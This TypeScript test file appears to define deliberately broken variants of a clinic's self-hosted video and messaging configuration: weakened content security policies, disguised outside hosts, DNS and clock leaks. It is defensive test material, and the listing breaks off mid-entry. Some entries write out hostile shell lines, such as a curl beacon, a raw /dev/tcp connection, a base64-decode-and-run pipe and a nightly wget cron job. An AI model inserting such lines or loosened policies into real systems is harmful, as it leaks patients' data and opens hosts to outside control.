import { appended, replaced, videoFile, withText, withFileOf, withoutFile } from "../../../policies/breaking.ts";
import { ENTRY } from "../../../policies/configuration.ts";
import type { Release } from "../../../render/release.ts";
import type { Egress } from "../../../services/service.ts";
import { CLINIC } from "../../fixtures/clinic.ts";
import { ALL_INSIDE } from "../../fixtures/clinic-with-devices.ts";
import { TUNNELLED } from "../../fixtures/tunnelled-clinic.ts";
import { INVITING } from "../../fixtures/inviting-clinic.ts";
import { MAIL, MAILING } from "../../fixtures/mailing-clinic.ts";
import type { BrokenTree } from "../tree.ts";

const CHRONY = "/etc/chrony/chrony.conf";
const RESOLVER = "/etc/systemd/resolved.conf.d/90-stillroom.conf";
const CERTBOT = "/etc/stillroom/certbot.ini";
const WELL_KNOWN = /location = \/\.well-known\/matrix\/client \{[^}]*\}/g;
const TITLE = "/usr/local/share/stillroom/video/title.html";

function inVideo(release: Release, line: string): Release {
  return appended(release, videoFile(release, "config.js"), line);
}

/** A change in the desk's own server alone. */
function atDesk(how: string, from: string | RegExp, to: string): BrokenTree {
  return {
    how: `the desk's pages ${how}`,
    clinic: INVITING,
    apply: (release) =>
      withText(release, ENTRY.nginx, (text) => {
        const at = text.search(/server_name "desk\.quiet-harbour\.example";\n\s*root/);
        return text.slice(0, at) + text.slice(at).replace(from, () => to);
      }),
  };
}

/** What the desk asks for where its practice names a mail server. */
const MAIL_EGRESS: Egress = {
  account: "desk",
  protocol: "tcp",
  ports: [MAIL.port],
  to: { kind: "names", names: [MAIL.server] },
  purpose: "mail",
};

export const TREES: readonly BrokenTree[] = [
  {
    how: "browsers are told of the machine's address outside though all is to be inside",
    clinic: ALL_INSIDE,
    apply: (release) => replaced(release, ENTRY.videobridge, '"wg1"', '"wg1", "@@fact:interface@@"'),
  },
  {
    how: "browsers are told of a tunnel where nothing is inside",
    apply: (release) => replaced(release, ENTRY.videobridge, '"@@fact:interface@@"', '"wg1"'),
  },
  {
    how: "the bridge on Hetzner tells of its private addresses, though nobody is in its network",
    apply: (release) =>
      replaced(
        release,
        ENTRY.videobridge,
        "advertise-private-candidates = false",
        "advertise-private-candidates = true",
      ),
  },
  {
    how: "devices' names are looked up by somebody else",
    clinic: ALL_INSIDE,
    apply: (release) => replaced(release, ENTRY.deviceNames, "server=127.0.0.53", "server=9.9.9.9"),
    speaks: "understood",
  },
  atDesk("have no content security policy", /add_header Content-Security-Policy .*/, ""),
  atDesk("may run scripts of others", "script-src 'self'", "script-src 'self' https://cdn.example"),
  atDesk("may run what somebody wrote into them", "script-src 'self'", "script-src 'self' 'unsafe-inline'"),
  atDesk("may send what is typed elsewhere", "form-action 'self'", "form-action 'self' https://forms.example"),
  atDesk("may tell others what they know", "connect-src 'self'", "connect-src *"),
  atDesk("may stand inside somebody's own", "frame-ancestors 'none'", "frame-ancestors *"),
  atDesk("let a camera be used by others", "camera=(self)", "camera=*"),
  atDesk("leave it to the browser what is told of where somebody came from", /add_header Referrer-Policy .*/, ""),
  atDesk("tell others where somebody came from", "Referrer-Policy no-referrer", "Referrer-Policy unsafe-url"),
  {
    how: "a page's branding comes from a host in capital letters with a dot at its end",
    apply: (release) => inVideo(release, 'config.dynamicBrandingUrl = "https://CDN.Example./brand.json";'),
  },
  {
    how: "the practice's own name stands as a user before another host",
    apply: (release) =>
      inVideo(release, 'config.dynamicBrandingUrl = "https://meet.quiet-harbour.example@cdn.example/";'),
  },
  {
    how: "backslashes stand for slashes before another host",
    apply: (release) => inVideo(release, 'config.defaultLogoUrl = "\\\\\\\\cdn.example/logo.svg";'),
  },
  {
    how: "a host is written as one number",
    apply: (release) => inVideo(release, 'config.defaultLogoUrl = "https://3405803777/logo.svg";'),
  },
  {
    how: "a host is an address of the second family",
    apply: (release) => inVideo(release, 'config.defaultLogoUrl = "//[2001:db8:77::5]/logo.svg";'),
  },
  {
    how: "a host has the practice's name at its beginning",
    apply: (release) =>
      inVideo(release, 'config.websocket = "wss://meet.quiet-harbour.example.evil.example/xmpp-websocket";'),
  },
  {
    how: "a host has letters that look like the practice's own",
    apply: (release) =>
      inVideo(release, 'config.defaultLogoUrl = "https://meet.xn--quiet-hrbour-w4a.example/logo.svg";'),
  },
  {
    how: "a STUN server of somebody else is offered beside ours",
    apply: (release) => inVideo(release, 'config.p2p.stunServers = [{ urls: "stun:stun.example:3478" }];'),
  },
  {
    how: "pictures of people are asked for elsewhere, by a word that counts as true",
    apply: (release) => inVideo(release, 'config.disableThirdPartyRequests = "";'),
  },
  {
    how: "statistics are gathered, by a number that counts as true",
    apply: (release) => inVideo(release, "config.gatherStats = 1;"),
  },
  {
    how: "the bridge asks a STUN server whose name is a late reference",
    apply: (release) =>
      appended(
        release,
        ENTRY.videobridge,
        'ice4j.harvest.mapping.stun { addresses = ["stun.example:443"] }\nice4j.harvest.mapping.stun.addresses = ${ice4j.harvest.mapping.stun.addresses}',
      ),
  },
  {
    how: "the bridge looks up names that a browser sends it, by a word in quotes",
    apply: (release) =>
      replaced(release, ENTRY.videobridge, "resolve-remote-candidates = false", 'resolve-remote-candidates = "on"'),
  },
  {
    how: "the bridge asks the cloud's metadata once more, further down",
    apply: (release) =>
      appended(release, ENTRY.videobridge, "ice4j { harvest { mapping { aws { enabled = true } } } }"),
  },
  {
    how: "Jicofo's rooms belong to a domain of another server",
    apply: (release) =>
      appended(release, ENTRY.jicofo, 'jicofo.xmpp.client.conference-muc-jid = "conference.elsewhere.example"'),
  },
  {
    how: "Prosody tells browsers of a relay of somebody else",
    apply: (release) =>
      replaced(
        release,
        ENTRY.prosody,
        /host = "relay\.quiet-harbour\.example"; port = 5349/,
        'host = "relay.example"; port = 5349',
      ),
  },
  {
    how: "coturn writes to a database on another machine",
    apply: (release) => appended(release, ENTRY.coturn, 'redis-statsdb="ip=203.0.113.77 dbname=1"'),
  },
  {
    how: "Synapse reports usage to an address of its own choice",
    apply: (release) =>
      appended(
        replaced(release, ENTRY.synapse, '"report_stats": false', '"report_stats": yes'),
        ENTRY.synapse,
        "suppress_key_server_warning: true",
      ),
  },
  {
    how: "Synapse fetches what is linked, by a word in quotes",
    apply: (release) => replaced(release, ENTRY.synapse, "url_preview_enabled: false", "url_preview_enabled: 'true'"),
  },
  {
    how: "errors of Synapse go to a service that collects them",
    apply: (release) => appended(release, ENTRY.synapse, "sentry:\n  dsn: https://key@errors.example/1"),
  },
  {
    how: "files that people send are kept by another company",
    apply: (release) =>
      appended(
        release,
        ENTRY.synapse,
        "media_storage_providers:\n  - module: s3_storage_provider.S3StorageProviderBackend\n    store_local: true\n    config: {bucket: files}",
      ),
  },
  {
    how: "push messages carry what was written, and are sent again",
    apply: (release) =>
      replaced(
        replaced(release, ENTRY.synapse, "start_pushers: false", "start_pushers: true"),
        ENTRY.synapse,
        "include_content: false",
        "include_content: true",
      ),
  },
  {
    how: "Element's maker gets its default back, since null became nothing",
    apply: (release) => replaced(release, ENTRY.element, '"integrations_rest_url": null,', ""),
  },
  {
    how: "Element's old name for calls is set and the new one taken out",
    apply: (release) =>
      replaced(
        release,
        ENTRY.element,
        '"preferred_domain": "meet.quiet-harbour.example"',
        '"preferredDomain": "meet.quiet-harbour.example"',
      ),
  },
  {
    how: "Element loads a module from its own folder",
    apply: (release) =>
      replaced(
        release,
        ENTRY.element,
        '"disable_guests": true,',
        '"disable_guests": true, "modules": ["/modules/m/index.js"],',
      ),
  },
  {
    how: "links to messages lead to the maker's site, since the line is left out",
    apply: (release) => replaced(release, ENTRY.element, /\n {2}"permalink_prefix": "[^"]*",/, ""),
  },
  {
    how: "Element shows maps of another company",
    apply: (release) =>
      replaced(release, ENTRY.element, '"UIFeature.locationSharing": false,', '"UIFeature.locationSharing": true,'),
  },
  {
    how: "Element may fall back to a relay of its maker's",
    apply: (release) => replaced(release, ENTRY.wellKnown, '"disable_fallback_ice": true', '"disable_fallback_ice": 1'),
  },
  {
    how: "people sign in at another server, which the discovery names",
    apply: (release) =>
      replaced(
        release,
        ENTRY.wellKnown,
        '"m.homeserver": {',
        '"org.matrix.msc2965.authentication": { "issuer": "/" },\n  "m.homeserver": {',
      ),
  },
  {
    how: "the page's title brings a picture, its slashes hidden by entities",
    apply: (release) =>
      appended(release, TITLE, '<meta property="og:image" content="https:&#x2f;&#47;cdn.example/p.png" />'),
  },
  {
    how: "the page's title leads on after some seconds, to another host",
    apply: (release) => appended(release, TITLE, '<meta http-equiv="refresh" content="9;url=//cdn.example/">'),
  },
  {
    how: "a style sheet imports another, its slashes hidden by escapes",
    apply: (release) =>
      appended(release, "/usr/local/share/stillroom/video/guard.css", "@import '\\2f\\2f cdn.example/a.css';"),
  },
  {
    how: "the clock is asked for at a pool of strangers, in capital letters",
    apply: (release) => appended(release, CHRONY, "POOL 2.pool.ntp.example iburst"),
  },
  {
    how: "one more server gives the time, by an address",
    apply: (release) => appended(release, CHRONY, "server 198.51.100.123 iburst"),
  },
  {
    how: "names are asked for at a company's resolver",
    apply: (release) => appended(release, RESOLVER, "DNS=9.9.9.9#dns.example"),
  },
  {
    how: "names are asked for at a distribution's resolvers, when others fail, since a line is left out",
    apply: (release) => replaced(release, RESOLVER, "FallbackDNS=\n", ""),
  },
  {
    how: "neighbours are asked for names",
    apply: (release) => replaced(release, RESOLVER, "LLMNR=no", "LLMNR=resolve"),
  },
  {
    how: "certificates are asked for at an issuer that the stack file does not name",
    apply: (release) => replaced(release, CERTBOT, /^server = .*$/m, "server = https://acme.example/directory"),
  },
  {
    how: "certbot is told of another issuer on its command line",
    apply: (release) =>
      replaced(
        release,
        "/etc/systemd/system/certificates.service",
        "--config /etc/stillroom/certbot.ini",
        "--config /etc/stillroom/certbot.ini \\\n  --server https://acme.example/directory",
      ),
  },
  {
    how: "the issuer of certificates is told an address for mail",
    apply: (release) => appended(release, CERTBOT, "email = ops@mail.example"),
  },
  {
    how: "a script of ours tells somebody that it ran",
    apply: (release) =>
      appended(release, "/usr/local/lib/stillroom/messaging-database", "curl -fsS -m 10 ping.example/$(hostname)"),
  },
  {
    how: "a script opens a connection without any program",
    apply: (release) =>
      appended(release, "/usr/local/lib/stillroom/keep-resolvers", "exec 3<>/dev/tcp/198.51.100.7/443"),
  },
  {
    how: "a script runs what it decodes",
    apply: (release) =>
      appended(release, "/usr/local/lib/stillroom/certificate-state", "printf %s Y3VybCBleGFtcGxl | base64 -d | sh"),
  },
  {
    how: "a unit fetches a file before it starts, on a second line",
    apply: (release) =>
      appended(
        release,
        "/etc/systemd/system/coturn.service.d/stillroom.conf",
        "[Service]\nExecStartPre=/usr/bin/env \\\n  wget -q -O /run/list lists.example/peers",
      ),
  },
  {
    how: "a step of the delivery clones a repository",
    apply: (release) => ({
      ...release,
      steps: [
        ...release.steps,
        {
          name: "pages",
          argv: ["git", "clone", "https://code.example/pages.git", "/srv/pages"],
          after: "files" as const,
        },
      ],
    }),
  },
  {
    how: "the clock's account may ask a whole net",
    apply: (release) => ({
      ...release,
      egress: release.egress.map((egress) =>
        egress.account === "_chrony"
          ? { ...egress, to: { kind: "addresses" as const, cidrs: ["198.51.100.0/24"] } }
          : egress,
      ),
    }),
  },
  {
    how: "the certificates' account may reach a second host",
    apply: (release) => ({
      ...release,
      egress: release.egress.map((egress) =>
        egress.account === "certificates" && egress.to.kind === "names"
          ? { ...egress, to: { ...egress.to, names: [...egress.to.names, "hooks.example"] } }
          : egress,
      ),
    }),
  },
  {
    how: "packages may be fetched from names of our own choice",
    apply: (release) => ({
      ...release,
      egress: release.egress.map((egress) =>
        egress.account === "_apt" ? { ...egress, to: { kind: "names" as const, names: ["mirror.example"] } } : egress,
      ),
    }),
  },
  {
    how: "a chain of the packet filter is filled with one name more",
    apply: (release) => replaced(release, ENTRY.egress, '"ntp1.hetzner.de"', '"ntp1.hetzner.de","drop.example"'),
  },
  {
    how: "a chain that stands twice in the list is filled with another's name",
    apply: (release) =>
      withText(release, ENTRY.egress, (text) =>
        text.replace(
          '{ "chains": [',
          '{ "chains": [{"chain":"to-resolvers","to":{"kind":"names","names":["dns.example"]}},',
        ),
      ),
    speaks: "understood",
  },
  {
    how: "a new job of cron calls home each night",
    apply: (release) =>
      withFileOf(release, "/usr/local/lib/stillroom/keep-resolvers", (file) => ({
        ...file,
        path: "/etc/cron.daily/report",
        text: "#!/bin/sh\nwget -q https://report.example/\n",
      })),
  },

  // Where the web server itself leads or sends.
  ...[
    ["a proxied address only begins like this machine's", "http://127.0.0.1:5280", "http://127.0.0.1.example.net:5280"],
    [
      "a proxied address has this machine's before an at sign",
      "http://127.0.0.1:5280",
      "http://127.0.0.1@example.net:5280",
    ],
    ["a proxied address is a number in decimal", "http://127.0.0.1:5280", "http://3405803785:5280"],
    ["a proxied name only begins like this machine's", "http://127.0.0.1:5280", "http://localhost.example.net:5280"],
    ["a proxied port is a variable that could go on as a name", "http://127.0.0.1:5280", "http://127.0.0.1$arg_more"],
  ].map(([how = "", from = "", to = ""]) => ({
    how,
    apply: (release: Release) =>
      replaced(release, ENTRY.nginx, `proxy_pass ${from}/xmpp-websocket;`, `proxy_pass ${to}/xmpp-websocket;`),
  })),
  ...[
    ["a redirect's host begins with the asked name and goes on", "return 302 https://$host.example.net/;"],
    ["a redirect's host is what the visitor says", "return 302 https://$arg_to/;"],
    ["a redirect has no scheme", "return 302 //example.net/;"],
    ["a redirect begins with a slash and a backslash", 'return 302 "/\\\\\\\\example.net/";'],
    ["a redirect leads to a bare IPv6 address", 'return 302 "https://[2001:db8::9]/";'],
    ["nginx sends what it writes down to another machine", "error_log syslog:server=198.51.100.7 crit;"],
    ["nginx hands an address on by another protocol", "grpc_pass grpc://example.net;"],
  ].map(([how = "", line = ""]) => ({
    how,
    apply: (release: Release) =>
      replaced(
        release,
        ENTRY.nginx,
        "location = /guard.css {",
        `location = /go { ${line} }\n        location = /guard.css {`,
      ),
  })),
  ...[
    [
      "one location of many has a policy that ends in everything",
      "location /bundles/ {",
      "location /bundles/ { add_header Content-Security-Policy \"default-src 'none'; connect-src *\" always;",
    ],
    ["a policy has browsers report to somebody", "frame-ancestors 'self'\"", "frame-ancestors 'self'; report-uri /x\""],
    ["a policy lets forms go to anybody", "form-action 'self'", "form-action https:"],
    [
      "a policy's first directive of a name is the open one",
      "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'",
      "Connect-Src *; default-src 'none'; script-src 'self' 'wasm-unsafe-eval'",
    ],
    [
      "a policy's scripts have a directive of their own that is open",
      "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'",
      "default-src 'none'; script-src-elem https:; script-src 'self' 'wasm-unsafe-eval'",
    ],
    [
      "a policy names our host with another behind it",
      "connect-src 'self' blob: https://",
      "connect-src 'self' blob: https://example.net https://",
    ],
    [
      "the homeserver's pages have no policy",
      "add_header Content-Security-Policy \"default-src 'none'; frame-ancestors 'none'; sandbox\" always;",
      "",
    ],
  ].map(([how = "", from = "", to = ""]) => ({
    how,
    apply: (release: Release) => replaced(release, ENTRY.nginx, from, to),
  })),

  // One by one, each setting that keeps somebody else out.
  ...[
    ...["disableThirdPartyRequests = false", "gravatar.disabled = false", "analytics.disabled = false"],
    ...["giphy.enabled = true", "whiteboard.enabled = true", "enableCalendarIntegration = true", "gatherStats = true"],
    ...["enableDisplayNameInStats = true", "enableEmailInStats = true", "analytics.rtcstatsEnabled = true"],
    ...["analytics.watchRTCEnabled = true", "feedbackPercentage = 10", "p2p.stunServers = null"],
    ...["amplitudeAPPKey", "matomoEndpoint", "matomoSiteID", "googleAnalyticsTrackingId", "scriptURLs"].map(
      (key) => `analytics.${key} = "x"`,
    ),
    ...["analytics.rtcstatsEndpoint", "analytics.obfuscateRoomName", "callStatsID", "callStatsSecret"].map(
      (key) => `${key} = "x"`,
    ),
    ...["callStatsConfIDNamespace", "watchRTCConfigParams", "googleApiApplicationClientID", "etherpad_base"].map(
      (key) => `${key} = "x"`,
    ),
    ...["microsoftApiApplicationClientID", "salesforceUrl", "peopleSearchUrl", "inviteServiceUrl"].map(
      (key) => `${key} = "x"`,
    ),
    ...["corsAvatarURLs", "jaasActuatorUrl", "jaasTokenUrl", "jaasConferenceCreatorUrl", "tokenAuthUrl"].map(
      (key) => `${key} = "x"`,
    ),
  ].map((line) => ({
    how: `the meetings' settings end with ${line}`,
    apply: (release: Release) => inVideo(release, `config.${line};`),
  })),
  {
    how: "the meetings' surface has a link to another host",
    apply: (release) =>
      appended(
        release,
        videoFile(release, "interface_config.js"),
        'interfaceConfig.JITSI_WATERMARK_LINK = "https://elsewhere.example";',
      ),
  },
  ...[
    ...[
      "enable_registration_captcha: true",
      "pusher_instances: [pusher1]",
      "media_storage_providers: [{module: files}]",
    ],
    ...["account_threepid_delegates: {msisdn: x}", "email: {enable_notifs: false}", "opentracing: {enabled: false}"],
    ...["sentry: {environment: x}", "matrix_rtc: {transports: []}", "redis: {enabled: false}", "oembed: {x: y}"],
    ...["report_stats_endpoint", "default_identity_server", "recaptcha_public_key", "recaptcha_private_key"].map(
      (key) => `${key}: x`,
    ),
    ...["trust_identity_server_for_password_resets", "user_consent", "recaptcha_siteverify_api", "http_proxy"].map(
      (key) => `${key}: x`,
    ),
    ...["https_proxy", "web_client_location", "extra_well_known_client_content", "ip_range_whitelist"].map(
      (key) => `${key}: x`,
    ),
    "url_preview_ip_range_whitelist: x",
  ].map((line) => ({
    how: `Synapse's settings end with ${line}`,
    apply: (release: Release) => appended(release, ENTRY.synapse, line),
  })),
  ...[
    ['"report_stats": false', '"report_stats": true'],
    ["enable_3pid_lookup: false", "enable_3pid_lookup: true"],
    ["enable_3pid_changes: false", "enable_3pid_changes: true"],
    ["start_pushers: false", "start_pushers: true"],
    ["  include_content: false", "  include_content: true"],
    ["turn_uris: []", 'turn_uris: ["turn:relay.quiet-harbour.example"]'],
    ["https://matrix.quiet-harbour.example/", "https://elsewhere.example/"],
  ].map(([from = "", to = ""]) => ({
    how: `Synapse's settings say ${to.trim()}`,
    apply: (release: Release) => replaced(release, ENTRY.synapse, from, to),
  })),
  ...[
    ...["default_server_name", "default_hs_url", "default_is_url", "fallback_hs_url", "map_style_url", "posthog"],
    ...["sentry", "piwik", "analytics_owner", "uisi_autorageshake_app", "bug_report_endpoint_url", "update_base_url"],
    ...["element_call", "widget_build_url", "audio_stream_url", "custom_translations_url", "logout_redirect_url"],
    ...["modules", "oidc_static_clients", "oidc_metadata", "sso_redirect_options", "sso_immediate_redirect"],
  ].map((key) => ({
    how: `Element is given ${key}`,
    apply: (release: Release) => replaced(release, ENTRY.element, "{", `{ "${key}": "x",`),
  })),
  ...[
    ['"disable_custom_urls": true', '"disable_custom_urls": false'],
    ['"disable_guests": true', '"disable_guests": false'],
    ['"available": false', '"available": true'],
    ['"fdroid": null', '"fdroid": "x"'],
    ['"fdroid": null', '"fdroid": null, "windows": "x"'],
    ['"mobile_guide_toast": false', '"mobile_guide_toast": true'],
    ['"integrations_widgets_urls": null', '"integrations_widgets_urls": ["/x"]'],
    ['"servers": []', '"servers": ["x"]'],
    ['"default_server_config": {', '"default_server_config": { "m.identity_server": {},'],
    ['"base_url": "https://matrix.quiet-harbour.example"', '"base_url": "https://elsewhere.example"'],
    ...["logo_link_url", "permalink_prefix", "help_url", "help_encryption_url", "help_key_storage_url"].map((key) => [
      `"${key}": "https://chat.quiet-harbour.example"`,
      `"${key}": null`,
    ]),
    ...["existing_issues_url", "new_issue_url"].map((key) => [
      `"${key}": "https://chat.quiet-harbour.example"`,
      `"${key}": 0`,
    ]),
    ...["feedback", "identityServer", "locationSharing", "shareSocial", "thirdPartyId", "widgets"].map((feature) => [
      `"UIFeature.${feature}": false`,
      `"UIFeature.${feature}": null`,
    ]),
  ].map(([from = "", to = ""]) => ({
    how: `Element's settings say ${to}`,
    apply: (release: Release) => replaced(release, ENTRY.element, from, to),
  })),
  ...[
    ['"m.homeserver": {', '"m.identity_server": {}, "m.homeserver": {'],
    ['"preferredDomain":', '"preferred_domain":'],
    ['"https://matrix.quiet-harbour.example"', '"https://elsewhere.example"'],
  ].map(([from = "", to = ""]) => ({
    how: `clients learn ${to}`,
    apply: (release: Release) => replaced(release, ENTRY.wellKnown, from, to),
  })),
  ...[
    ["aws { enabled = false, force = false }", "aws { enabled = false, force = true }"],
    ["stun { addresses = [] }", 'stun { addresses = ["relay.quiet-harbour.example:3478"] }'],
    ['HOSTNAME = "127.0.0.1"', 'HOSTNAME = "elsewhere.example"'],
  ].map(([from = "", to = ""]) => ({
    how: `the bridge's settings say ${to}`,
    apply: (release: Release) => replaced(release, ENTRY.videobridge, from, to),
  })),
  {
    how: "Prosody's own address is another host's for all of its hosts",
    apply: (release) =>
      replaced(
        release,
        ENTRY.prosody,
        /^(?=modules_enabled = )/m,
        'http_external_url = "https://elsewhere.example/"\n',
      ),
  },
  ...[
    ...["resolver 198.51.100.53;", "ssl_ocsp_responder http://198.51.100.7/;", "ssl_stapling on;", "ssl_ocsp leaf;"],
    ...["error_page 404 https://elsewhere.example/;"],
    ...["rewrite ^/go$ https://elsewhere.example/ redirect;", "rewrite_log off; error_page 502 //elsewhere.example;"],
  ].map((line) => ({
    how: `the web server is told ${line}`,
    apply: (release: Release) =>
      replaced(release, ENTRY.nginx, "root /usr/share/jitsi-meet;", `root /usr/share/jitsi-meet; ${line}`),
  })),
  {
    how: "each page asks browsers to fetch a script of another host beforehand",
    apply: (release) =>
      replaced(
        release,
        ENTRY.nginx,
        "add_header Referrer-Policy no-referrer always;",
        "add_header Referrer-Policy no-referrer always; add_header Link '<https://elsewhere.example/a.js>; rel=preload';",
      ),
  },
  {
    how: "a page's links may start at any host",
    apply: (release) => replaced(release, ENTRY.nginx, "base-uri 'self'", "base-uri https:"),
  },
  {
    how: "the page's title brings a picture of ours that nobody knows",
    apply: (release) => appended(release, TITLE, '<img src="/x.png" />'),
  },
  {
    how: "the page's title names another host behind two backslashes that look like an escape",
    apply: (release) => appended(release, TITLE, '<meta content="\\\\cdn.example/p.png" />'),
  },
  {
    how: "a peer gives the time",
    apply: (release) => appended(release, CHRONY, "peer 198.51.100.124"),
  },
  {
    how: "a company's resolver is asked when others fail",
    apply: (release) => replaced(release, RESOLVER, "FallbackDNS=", "FallbackDNS=9.9.9.9"),
  },
  {
    how: "neighbours are asked for names by the other protocol",
    apply: (release) => replaced(release, RESOLVER, "MulticastDNS=no", "MulticastDNS=yes"),
  },
  {
    how: "a second resolver stands behind the tunnel's own, on the same line",
    clinic: TUNNELLED,
    apply: (release) => replaced(release, RESOLVER, "DNS=10.9.0.1", "DNS=10.9.0.1 9.9.9.9"),
  },
  ...(
    [
      [/^DNS=.*\n/m, "", "the tunnel's resolvers are left out, so that the network's own are asked"],
      [/^DNS=.*$/m, "#$&", "the tunnel's resolvers stand in a comment"],
      [/^Domains=.*\n/m, "", "the resolver is not told that every name belongs into the tunnel"],
      [/^DNS=.*$/m, "$&\nDNS=", "an empty line takes back the tunnel's resolvers"],
      [/^(DNS=.*)\n(Domains=.*)$/m, "[Other]\n$1\n$2", "the tunnel's resolvers stand below another heading"],
    ] as const
  ).map(([from, to, how]) => ({
    how,
    clinic: TUNNELLED,
    apply: (release: Release) => withText(release, RESOLVER, (text) => text.replace(from, to)),
  })),
  {
    how: "the tunnel ends at somebody else's",
    clinic: TUNNELLED,
    apply: (release) => replaced(release, ENTRY.tunnel, "Endpoint = 198.51.100.9", "Endpoint = 198.51.100.99"),
  },
  ...(
    [
      ["the packages' account may reach the resolvers", "_apt", { kind: "fact", fact: "resolvers" }],
      [
        "the resolver's account may reach the packages' mirrors",
        "systemd-resolve",
        { kind: "fact", fact: "apt-mirrors" },
      ],
      ["the resolver's account may reach an address", "systemd-resolve", { kind: "addresses", cidrs: ["9.9.9.9/32"] }],
      ["the clock's account may reach the resolvers", "_chrony", { kind: "fact", fact: "resolvers" }],
      [
        "the clock's account may reach one server that nobody knows",
        "_chrony",
        { kind: "names", names: ["ntp1.hetzner.de", "time.example"] },
      ],
      ["the certificates' account may reach the mirrors", "certificates", { kind: "fact", fact: "apt-mirrors" }],
    ] as const satisfies readonly (readonly [string, string, Egress["to"]])[]
  ).map(([how, account, to]) => ({
    how,
    apply: (release: Release) => ({
      ...release,
      egress: release.egress.map((egress) => (egress.account === account ? { ...egress, to } : egress)),
    }),
  })),
  {
    how: "the tunnel's account may reach a second end",
    clinic: TUNNELLED,
    apply: (release) => ({
      ...release,
      egress: release.egress.map((egress) =>
        egress.account === "root"
          ? { ...egress, to: { kind: "addresses" as const, cidrs: ["198.51.100.9/32", "198.51.100.10/32"] } }
          : egress,
      ),
    }),
  },
  {
    how: "the tunnel's account may reach its end for something else",
    clinic: TUNNELLED,
    apply: (release) => ({
      ...release,
      egress: release.egress.map((egress) => (egress.account === "root" ? { ...egress, purpose: "updates" } : egress)),
    }),
  },
  // The homeserver, and what clients learn of it.
  {
    how: "clients are sent to the homeserver in clear",
    apply: (release) => replaced(release, ENTRY.wellKnown, '"base_url": "https:', '"base_url": "http:'),
  },
  {
    how: "Element signs in at the homeserver in clear",
    apply: (release) => replaced(release, ENTRY.element, '"base_url": "https:', '"base_url": "http:'),
  },
  {
    how: "the homeserver calls its own address one in clear",
    apply: (release) => replaced(release, ENTRY.synapse, /^public_baseurl: "?https:/m, 'public_baseurl: "http:'),
  },
  {
    how: "a scheme without slashes stands before another host",
    apply: (release) => inVideo(release, 'config.defaultLogoUrl = "https:cdn.example/logo.svg";'),
  },
  {
    how: "clients are sent to another host by an address without slashes",
    apply: (release) => replaced(release, ENTRY.wellKnown, /"base_url": "[^"]*"/, '"base_url": "https:evil.example"'),
  },
  {
    how: "Element signs in at the practice's relay",
    apply: (release) =>
      replaced(release, ENTRY.element, /"base_url": "[^"]*"/, `"base_url": "https://${CLINIC.names.relay}"`),
  },
  {
    how: "Element takes the pages' name for that of the accounts",
    apply: (release) =>
      replaced(release, ENTRY.element, /"server_name": "[^"]*"/, `"server_name": "${CLINIC.names.messaging}"`),
  },
  {
    how: "the homeserver's accounts have the name of the video server",
    apply: (release) => replaced(release, ENTRY.synapse, /^"server_name": .*$/m, `server_name: ${CLINIC.names.video}`),
  },
  {
    how: "the homeserver's own address is left to its name and a port",
    apply: (release) => replaced(release, ENTRY.synapse, /^public_baseurl: .*$/m, ""),
  },
  {
    how: "nobody serves what clients should learn",
    apply: (release) => replaced(release, ENTRY.nginx, WELL_KNOWN, ""),
  },
  {
    how: "what clients should learn is not found under the homeserver's name",
    apply: (release) =>
      replaced(release, ENTRY.nginx, WELL_KNOWN, "location = /.well-known/matrix/client { return 404; }"),
  },
  {
    how: "what clients should learn may not be read by pages of another name",
    apply: (release) => replaced(release, ENTRY.nginx, /add_header Access-Control-Allow-Origin "\*" always;/g, ""),
  },
  {
    how: "what clients should learn is a text of the web server's own, beside our file",
    apply: (release) =>
      replaced(
        release,
        ENTRY.nginx,
        /default_type application\/json;/g,
        'default_type application/json; return 200 "{}";',
      ),
  },
  {
    how: "what clients should learn is looked for under another name first",
    apply: (release) =>
      replaced(
        release,
        ENTRY.nginx,
        /default_type application\/json;/g,
        "default_type application/json; try_files /client.json =404;",
      ),
  },
  {
    how: "what clients should learn is allowed twice to pages of another name, and so not at all",
    apply: (release) =>
      replaced(
        release,
        ENTRY.nginx,
        /add_header Access-Control-Allow-Origin "\*" always;/g,
        'add_header Access-Control-Allow-Origin "*" always; add_header Access-Control-Allow-Origin "*" always;',
      ),
  },
  {
    how: "clients learn of another company's maps",
    apply: (release) =>
      replaced(
        release,
        ENTRY.wellKnown,
        '"m.homeserver": {',
        '"m.tile_server": { "map_style_url": "https://maps.example/style.json" }, "m.homeserver": {',
      ),
  },
  {
    how: "one of the shops for Element's apps is left out, so that its maker's counts",
    apply: (release) => replaced(release, ENTRY.element, '"ios": null,', ""),
  },
  {
    how: "nothing is said of shops for Element's apps, so that its maker's count",
    apply: (release) => replaced(release, ENTRY.element, /"mobile_builds": \{[^}]*\},/, ""),
  },
  {
    how: "Synapse asks another server for everybody's keys",
    apply: (release) =>
      replaced(
        release,
        ENTRY.synapse,
        "trusted_key_servers: []",
        'trusted_key_servers:\n  - server_name: "keys.example"',
      ),
  },
  {
    how: "Element's page for signing in leads to another host for its terms",
    apply: (release) =>
      replaced(
        release,
        ENTRY.element,
        "{",
        '{ "terms_and_conditions_links": [{ "text": "Terms", "url": "https://elsewhere.example/terms" }],',
      ),
  },
  {
    how: "our file for the clock is gone, and Debian's own asks a pool",
    apply: (release) => withoutFile(release, CHRONY),
  },
  {
    how: "our file for the clock names no server any more",
    apply: (release) => withText(release, CHRONY, (text) => text.replace(/^server .*\n/gm, "")),
  },
  {
    how: "the clock is left to the program that the system came with",
    apply: (release) => ({ ...release, packages: release.packages.filter(({ name }) => name !== "chrony") }),
  },
  {
    how: "the program that keeps the clock is none of the release's units",
    apply: (release) => ({ ...release, units: release.units.filter(({ name }) => name !== "chrony.service") }),
  },
  {
    how: "browsers are led to a relay whose address is one decimal number",
    apply: (release) =>
      replaced(release, ENTRY.prosody, /type = "turn"; host = "[^"]*"/, 'type = "turn"; host = "3221225985"'),
  },
  {
    how: "browsers are led to a relay whose address is one hexadecimal number",
    apply: (release) =>
      replaced(release, ENTRY.prosody, /type = "turn"; host = "[^"]*"/, 'type = "turn"; host = "0xc0000201"'),
  },
  {
    how: "browsers are led to a relay whose address has three parts",
    apply: (release) =>
      replaced(release, ENTRY.prosody, /type = "turn"; host = "[^"]*"/, 'type = "turn"; host = "198.51.513"'),
  },
  {
    how: "browsers are led to a relay by one word, which their own network completes",
    apply: (release) =>
      replaced(release, ENTRY.prosody, /type = "turn"; host = "[^"]*"/, 'type = "turn"; host = "elsewhere"'),
  },
  {
    how: "browsers are led to the practice's page instead of its relay, where nobody relays",
    apply: (release) =>
      replaced(
        release,
        ENTRY.prosody,
        /type = "turn"; host = "[^"]*"/,
